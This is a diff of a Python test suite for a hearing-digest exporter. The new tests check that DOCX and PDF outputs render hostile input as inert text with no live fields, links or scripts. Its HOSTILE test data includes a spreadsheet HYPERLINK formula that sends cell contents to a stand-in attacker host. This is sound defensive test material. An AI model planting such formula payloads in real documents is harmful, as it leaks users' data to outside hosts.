@@ -13,11 +13,13 @@ from builders import Case, Said, labelled, source_of
 from docx import Document
 from lxml import etree
 from matrix_desk import Desk, ids_of, rows_of, type_in_workbook
+from pypdf import PdfReader
 
 from hearing.core.model import Labelled
+from hearing.digest.document.example_template import write_example
 from hearing.digest.export import FORMATS
 from hearing.digest.refi import Hearing, export_qdpx
-from hearing.digest.write import write_digest
+from hearing.digest.write import Wanted, write_digest
 
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?x="&A1,"Klikk her")',
@@ -63,7 +65,8 @@ def parts(path: Path) -> Iterator[tuple[str, etree._Element]]:
                 yield name, etree.fromstring(archive.read(name), etree.XMLParser(resolve_entities=False))
 
 
-def assert_nothing_can_run(path: Path) -> None:
+def assert_nothing_can_run(path: Path, own_fields: tuple[str, ...] = ()) -> None:
+    """No part can run anything; ``own_fields`` are instructions of our own."""
     with ZipFile(path) as archive:
         names = archive.namelist()
     assert not [
@@ -71,6 +74,10 @@ def assert_nothing_can_run(path: Path) -> None:
     ]
     for name, root in parts(path):
         tags = {etree.QName(element).localname for element in root.iter(etree.Element)}
+        if own_fields and name == "word/document.xml":
+            assert {one.text for one in root.iter("{*}instrText")} == set(own_fields)
+            assert all(re.search(r"}anchor$", one.keys()[0]) for one in root.iter("{*}hyperlink"))
+            tags -= {"instrText", "hyperlink"}
         assert not tags & {
             "f",
             "hyperlink",
@@ -165,6 +172,29 @@ def test_a_project_holds_text_only_and_no_path_outwards(tmp_path: Path) -> None:
         for source in root.iter("{*}TextSource")
     )
     assert len(list(root.iter("{*}TextSource"))) == len(HOSTILE)
+
+
+@pytest.mark.parametrize("in_a_template", [False, True])
+def test_the_digest_as_a_document_shows_markup_as_text(tmp_path: Path, in_a_template: bool) -> None:
+    template = tmp_path / "mal.docx" if in_a_template else None
+    if template:
+        write_example(template, "nb")
+    digest = Case(tuple(ANSWERS), title=HOSTILE[7]).digest()
+    (path,) = write_digest(digest, tmp_path, Wanted(("docx",), template))
+    assert_nothing_can_run(path, own_fields=(r' TOC \o "1-2" \h \z \u ',))
+    shown = "\n".join(paragraph.text for paragraph in Document(str(path)).paragraphs)
+    assert all(f"«{text}»" in shown for text in HOSTILE if text.isprintable())
+
+
+def test_the_digest_as_a_pdf_shows_markup_as_text_and_links_nowhere(tmp_path: Path) -> None:
+    (path,) = write_digest(Case(tuple(ANSWERS), title=HOSTILE[7]).digest(), tmp_path, Wanted(("pdf",)))
+    reader = PdfReader(path)
+    shown = "".join("".join(page.extract_text() for page in reader.pages).split())
+    assert all("".join(text.split()) in shown for text in HOSTILE if text.isprintable() and "＝" not in text)
+    actions = [one.get_object() for page in reader.pages for one in page.get("/Annots", ())]
+    assert not [one for one in actions if one.get("/A", {}).get("/S") in {"/URI", "/Launch", "/JavaScript"}]
+    assert "/Names" not in reader.trailer["/Root"] or "/JavaScript" not in reader.trailer["/Root"]["/Names"]
+    assert "/OpenAction" not in reader.trailer["/Root"]
 
 
 def test_the_digest_shows_markup_as_text(tmp_path: Path) -> None:
